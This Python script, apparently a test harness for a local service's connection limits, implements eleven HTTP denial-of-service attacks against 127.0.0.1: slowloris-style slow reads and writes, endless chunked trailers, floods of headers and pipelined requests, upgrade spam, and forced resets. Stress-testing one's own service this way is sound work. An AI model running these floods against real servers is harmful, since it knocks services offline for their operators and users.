"""One attack on a service, from a process of its own: `python attack.py NAME PORT SECONDS CONNECTIONS`.

Each connection is opened again as soon as the service closes it. No attacker has a key.
"""

import asyncio
import contextlib
import socket
import struct
import sys
from collections.abc import Awaitable, Callable

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
OPEN = b"POST /score HTTP/1.1\r\nhost: t\r\ntransfer-encoding: chunked\r\n\r\n"
BUNDLE = b"GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nhost: t\r\n\r\n"
HEALTH = b"GET /healthz HTTP/1.1\r\nhost: t\r\n\r\n"
PAUSE_S = 0.25  # what is attacked are the limits, not the core that both sides share here


async def endless(writer: asyncio.StreamWriter, start: bytes, piece: bytes, pause_s: float = 0.05) -> None:
    writer.write(start)
    while True:
        writer.write(piece)
        await writer.drain()
        await asyncio.sleep(pause_s)


async def trailers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await endless(writer, OPEN + b"0\r\n", b"x-trailer: " + b"a" * 50 + b"\r\n")


async def slow_readers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    reader._transport.pause_reading()  # type: ignore[attr-defined]
    await endless(writer, BUNDLE * 20, BUNDLE, 0.2)


async def slow_writers(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await endless(writer, b"POST /score HTTP/1.1\r\nhost: t\r\nx: ", b"a", 0.1)


async def half_open(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"POST /score HTTP/1.1\r\n")
    await reader.read()


async def upgrades(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    head = b"POST /score HTTP/1.1\r\nhost: t\r\nconnection: upgrade\r\nupgrade: h2c\r\ncontent-length: 2\r\n\r\n{}"
    while True:
        writer.write(head * 10)
        await reader.readuntil(b"\r\n\r\n")
        await asyncio.sleep(1)


async def pipelining(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while True:
        writer.write(HEALTH * 150)
        for _ in range(150):
            await reader.readuntil(b'{"status":"ok"}')
        await asyncio.sleep(5)


async def garbage(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"NONSENSE\r\n\r\n" + b"\x00garbage" * 500)
    await reader.read()
    await asyncio.sleep(PAUSE_S)


async def chunks(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await endless(writer, OPEN, b"1\r\nx\r\n" * 200)


async def heads(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(b"GET /healthz HTTP/1.1\r\nhost: t\r\n" + b"".join(b"x-%d: 1\r\n" % n for n in range(4_000)))
    await reader.read()
    await asyncio.sleep(PAUSE_S)


async def resets(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    writer.write(BUNDLE)
    await reader.readexactly(1_000)
    writer.transport.abort()
    await asyncio.sleep(PAUSE_S)


async def descriptors(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read()


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (trailers, slow_readers, slow_writers, half_open, upgrades, pipelining, garbage, chunks, heads, resets, descriptors)
}


async def again(attack: Attack, port: int) -> None:
    while True:
        with contextlib.suppress(OSError, EOFError, asyncio.LimitOverrunError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            try:
                await attack(reader, writer)
            finally:
                writer.close()
        await asyncio.sleep(PAUSE_S)


async def main(name: str, port: int, seconds: float, connections: int) -> None:
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
            for _ in range(connections):
                group.create_task(again(ATTACKS[name], port))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])))
